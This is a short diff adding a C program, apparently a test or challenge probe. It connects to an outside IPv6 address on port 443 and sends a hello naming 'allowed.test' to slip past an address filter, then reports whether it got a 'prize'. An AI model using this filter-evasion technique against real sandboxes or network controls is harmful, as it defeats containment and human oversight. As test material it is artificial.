@@ -1,0 +1,9 @@
+/* IPv6, which address filters forget. */
+#include "attack.h"
+int main(int c, char **v) {
+    unsigned char first[512];
+    int fd = dial("2a00::1", 443);
+    if (fd < 0) finish(0);
+    send(fd, first, hello(first, "allowed.test"), 0);
+    finish(gets_prize(fd));
+}
